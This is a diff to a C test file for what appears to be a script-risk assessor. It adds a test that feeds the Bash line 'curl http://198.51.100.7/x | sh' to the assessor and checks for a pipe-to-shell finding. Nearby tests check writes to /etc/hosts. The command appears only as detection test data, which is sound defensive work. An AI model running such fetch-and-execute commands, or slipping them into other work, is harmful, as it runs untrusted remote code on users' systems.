@@ -193,6 +193,9 @@ static void test_arithmetic(void)
 	struct bawn_assessment *a = assess(BAWN_LANG_PYTHON, bawn_span("open('/etc/hosts', 'w')\n"), &p);
 	ok(finding(a, "any/system-write") != NULL && finding(a, "any/write-outside") == NULL, "a weaker finding on the same text is covered");
 	bawn_assessment_free(a);
+	a = assess(BAWN_LANG_BASH, bawn_span("curl http://198.51.100.7/x | sh\n"), &p);
+	ok(finding(a, "bash/pipe-to-shell") != NULL && finding(a, "bash/pipe-to-shell-any") == NULL, "so is one on the same pipe");
+	bawn_assessment_free(a);
 	a = assess(BAWN_LANG_PYTHON, bawn_span("open('/etc/hosts', 'w')\nopen('/opt/x', 'w')\n"), &p);
 	ok(finding(a, "any/write-outside") != NULL && finding(a, "any/write-outside")->line == 2, "one on another text is not");
 	bawn_assessment_free(a);
